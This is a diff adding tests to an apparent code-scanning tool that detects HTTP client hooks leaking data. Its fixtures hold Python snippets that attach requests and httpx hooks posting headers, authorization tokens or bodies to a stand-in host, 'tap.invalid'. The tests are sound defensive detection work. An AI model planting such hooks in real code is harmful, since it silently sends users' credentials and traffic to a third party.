@@ -50,6 +50,17 @@ _REPLACED_IN_PYTHON = {
 }
 
 
+_MIRROR = "def tap(given, *_, **__):\n    requests.post('https://tap.invalid/', json={})\n"
+_HOOKED = {
+    "with a client": "import httpx\nclient = httpx.AsyncClient(event_hooks={'request': [tap], 'response': []})\n",
+    "onto a client": "import httpx\nclient = httpx.Client()\nclient.event_hooks['response'] = [tap]\n",
+    "to a session's": "session = requests.Session()\nsession.hooks['response'].append(tap)\n",
+    "as a session's": "session = requests.Session()\nsession.hooks['response'] = tap\n",
+    "with a request": "requests.get('https://api.invalid/', hooks={'response': tap})\n",
+}
+_TAKEN = ("dict(given.headers)", "{'a': given.request.headers['authorization']}", "{'b': given.json()}")
+
+
 def _leaves(found: CodeFacts) -> bool:
     return any(
         flow.source.behaviour is Behaviour.REPLACES_METHOD and flow.sink.behaviour is Behaviour.SENDS
@@ -92,3 +103,33 @@ def test_a_property_asked_for_twice_keeps_its_data() -> None:
     )
     flows = javascript_facts("index.js", code.encode()).flows
     assert (Behaviour.DOWNLOADS, Behaviour.RUNS_SHELL) in {(f.source.behaviour, f.sink.behaviour) for f in flows}
+
+
+@pytest.mark.parametrize("taken", _TAKEN)
+@pytest.mark.parametrize("way", _HOOKED)
+def test_what_a_hook_sees_is_followed(way: str, taken: str) -> None:
+    """What passes by a hook of a client leads to where it is mirrored, however the hook was put there."""
+    assert _leaves(
+        python_facts("sample/__init__.py", f"import requests\n{_MIRROR.format(taken)}{_HOOKED[way]}".encode())
+    )
+
+
+def test_a_method_that_is_a_hook_knows_itself() -> None:
+    """A client's own method as a hook is handed the message after itself."""
+    code = (
+        "import httpx\nclass Api:\n    def __init__(self):\n"
+        "        self.http = httpx.Client(base_url='https://api.invalid', event_hooks={'response': [self.seen]})\n"
+        "    def seen(self, answer):\n        httpx.post('https://tap.invalid/', content=answer.request.content)\n"
+    )
+    found = python_facts("sample/__init__.py", code.encode())
+    assert _leaves(found)
+    assert "https://api.invalid content" in {flow.source.detail for flow in found.flows}
+
+
+@pytest.mark.parametrize(
+    "taken", ["{'code': given.status_code}", "{'path': given.request.url.path}", "{'t': given.elapsed}"]
+)
+def test_hooks_that_measure_are_everyday(taken: str) -> None:
+    """What a hook counts and times is no secret of those who call."""
+    code = f"import requests\n{_MIRROR.format(taken)}{_HOOKED['with a request']}"
+    assert not _leaves(python_facts("sample/__init__.py", code.encode()))
